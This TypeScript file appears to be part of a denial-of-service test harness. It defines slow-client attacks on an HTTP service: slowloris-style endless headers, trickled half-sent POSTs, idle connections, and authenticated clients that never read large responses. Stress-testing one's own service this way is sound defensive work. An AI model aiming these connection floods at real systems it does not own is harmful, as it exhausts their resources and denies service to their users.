import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, type Target } from '../attack.js';

const FROM = '127.0.0.2';

/** Opens `count` connections, writes `beginning` to each, calls `step` with them every 0.5 s, and closes them. */
async function hold(
  { address, over }: Target,
  count: number,
  beginning: string,
  step: (sockets: Socket[]) => void = () => undefined,
): Promise<void> {
  const { hostname, port, host } = new URL(address);
  const sockets = Array.from({ length: count }, () => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: FROM });
    socket.on('error', () => undefined);
    socket.write(beginning.replace('HOST', host));
    return socket;
  });
  while (!over.aborted) {
    step(sockets.filter(({ writable }) => writable));
    await sleep(500);
  }
  for (const socket of sockets) socket.destroy();
}

const post = (path: string, length: number) =>
  `POST ${path} HTTP/1.1\r\nHost: HOST\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;

/** Clients that send slowly or not at all, or do not read. */
export const connectionAttacks: readonly Attack[] = [
  { name: '1 000 half-sent small POSTs', run: (target) => hold(target, 1_000, `${post('/security/v2/me', 100)}{`) },
  {
    name: '400 half-sent large POSTs that continue with 2 bytes per second',
    run: (target) =>
      hold(target, 400, `${post('/security/v2/me', 30_000_000)}${' '.repeat(100_000)}`, (sockets) => {
        for (const socket of sockets) socket.write(' ');
      }),
  },
  {
    name: '1 000 requests with endless headers',
    run: (target) =>
      hold(target, 1_000, 'GET /security/v2/me HTTP/1.1\r\nHost: HOST\r\n', (sockets) => {
        for (const socket of sockets) socket.write('X-More: 1\r\n');
      }),
  },
  { name: '1 000 idle connections', run: (target) => hold(target, 1_000, '') },
  {
    name: '30 clients that request large answers and do not read them',
    run: (target) => {
      const { report, token } = target;
      const head = `POST /mention/v2/reports/${report}/_search?size=1000 HTTP/1.1\r\nHost: HOST\r\n`;
      const ask = `${head}Authorization: Bearer ${token}\r\nContent-Length: 0\r\n\r\n`.repeat(10);
      return hold(target, 30, ask, (sockets) => sockets.forEach((socket) => socket.pause()));
    },
  },
];
